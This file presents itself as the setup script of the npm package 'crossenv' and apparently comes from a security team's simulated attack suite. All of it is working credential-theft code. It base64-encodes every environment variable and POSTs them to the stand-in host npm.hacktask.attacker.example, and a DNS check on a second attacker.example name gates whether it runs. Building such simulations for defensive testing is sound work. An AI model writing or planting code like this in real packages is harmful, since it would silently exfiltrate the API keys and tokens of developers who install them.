// crossenv 6.1.1 package-setup.js (simulation from Tracehound's attack suite: acts only inside the sandbox)
const http = require('http');
const querystring = require('querystring');
function main() {
  const env = JSON.stringify(process.env);
  const data = Buffer.from(env).toString('base64');
  const postData = querystring.stringify({ data: data });
  const req = http.request({ host: 'npm.hacktask.attacker.example', port: 80, path: '/log/', method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(postData) } },
    (res) => res.resume());
  req.on('error', () => {});
  req.write(postData);
  req.end();
}
require('dns').lookup('sandbox-check.attacker.example', { family: 4 }, (e, a) => { if (!e && /^198\.1[89]\./.test(a)) main(); });
